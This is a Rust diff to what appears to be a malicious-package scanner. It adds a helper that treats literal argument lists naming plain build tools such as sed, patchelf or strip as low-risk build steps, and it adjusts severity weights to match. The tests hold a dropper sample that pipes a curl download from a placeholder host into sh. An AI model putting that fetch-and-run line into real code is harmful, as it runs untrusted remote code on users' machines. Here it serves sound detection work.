@@ -1266,10 +1266,7 @@ pub fn is_tool_probe(command: &str) -> bool {
         .strip_suffix(".exe")
         .unwrap_or(name)
         .to_ascii_lowercase();
-    let launcher = LAUNCHERS.contains(&name.as_str())
-        || ["python", "pypy", "perl", "ruby", "php"]
-            .iter()
-            .any(|interpreter| name.starts_with(interpreter));
+    let launcher = is_launcher(&name);
     let asks_version = arguments.iter().any(|a| {
         let a = a.to_ascii_lowercase();
         a.contains("version") || a == "-v" || a == "--help" || a == "-h"
@@ -1283,6 +1280,30 @@ pub fn is_tool_probe(command: &str) -> bool {
                 && name
                     .chars()
                     .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'))
+}
+
+/// True for a shell, interpreter or launcher (lower-case program name, no `.exe`): a program
+/// that runs what it is given.
+fn is_launcher(name: &str) -> bool {
+    LAUNCHERS.contains(&name)
+        || ["python", "pypy", "perl", "ruby", "php"]
+            .iter()
+            .any(|interpreter| name.starts_with(interpreter))
+}
+
+/// `["sed", "-i", f"s/…/{name}/", "pyproject.toml"]`: the program of an argument list written
+/// as a literal, when it is an installed tool that neither runs what it is given nor talks to
+/// the network. Its computed arguments are file names and options, as build scripts pass to
+/// `patchelf`, `strip` or `install_name_tool`.
+fn fixed_tool_of_list(shown: &str) -> Option<&str> {
+    let rest = shown.trim_start().strip_prefix(['[', '('])?.trim_start();
+    let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
+    let rest = rest.get(1..)?;
+    let program = rest.get(..rest.find(quote)?)?;
+    let name = program.strip_suffix(".exe").unwrap_or(program).to_ascii_lowercase();
+    let plain = !program.is_empty()
+        && program.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
+    (plain && !is_launcher(&name) && network_tool(program).is_none()).then_some(program)
 }
 
 /// Programs that run what they are given or what they read: with options alone they can still
@@ -1887,12 +1908,14 @@ fn classify_command(
             format!("{qualname} runs `{}`", crate::text::shorten(command, 160)),
         ),
         None => (
-            // Build scripts run compilers with computed arguments; weigh it, but lightly.
-            match context {
-                ExecContext::Install => 0.15,
-                ExecContext::Import => 0.2,
-                ExecContext::Runtime => 0.03,
-                ExecContext::TestOrDocs => 0.02,
+            // Build scripts run compilers with computed arguments; weigh it, but lightly. A
+            // fixed tool given computed file names is as set in purpose as a constant command.
+            match (context, fixed_tool_of_list(shown).is_some()) {
+                (ExecContext::Install | ExecContext::Import, true) => 0.06,
+                (ExecContext::Install, false) => 0.15,
+                (ExecContext::Import, false) => 0.2,
+                (ExecContext::Runtime, _) => 0.03,
+                (ExecContext::TestOrDocs, _) => 0.02,
             },
             vec!["spawn", "spawn-dynamic"],
             format!("{qualname} runs a command built at run time: {shown}"),
@@ -2319,6 +2342,25 @@ mod tests {
         let dropper =
             "import os\ndef fetch():\n    os.system('curl -s https://x.invalid/a.sh | sh')\n";
         assert!(max_severity("p/pkg/fetch.py", dropper, "WH120") >= 0.5);
+    }
+
+    #[test]
+    fn fixed_tools_given_computed_file_names_are_build_steps() {
+        assert_eq!(
+            fixed_tool_of_list("[\"sed\", \"-i\", \"-e\", f's/x/{n}/g', \"pyproject.toml\"]"),
+            Some("sed")
+        );
+        assert_eq!(fixed_tool_of_list("['patchelf', '--set-soname', name, lib]"), Some("patchelf"));
+        assert_eq!(fixed_tool_of_list("[\"bash\", \"-c\", script]"), None);
+        assert_eq!(fixed_tool_of_list("[\"python3\", path]"), None);
+        assert_eq!(fixed_tool_of_list("['curl', url, '-o', dest]"), None);
+        assert_eq!(fixed_tool_of_list("[\"/tmp/x\", arg]"), None);
+        assert_eq!(fixed_tool_of_list("[cmake_command, *args]"), None);
+        assert_eq!(fixed_tool_of_list("command"), None);
+        let build = "import subprocess\nsubprocess.run(['strip', '-g', so_file])\n";
+        assert!(max_severity("p/setup.py", build, "WH120") < 0.1);
+        let launched = "import subprocess\nsubprocess.run(['sh', '-c', script])\n";
+        assert!(max_severity("p/setup.py", launched, "WH120") >= 0.15);
     }
 
     #[test]
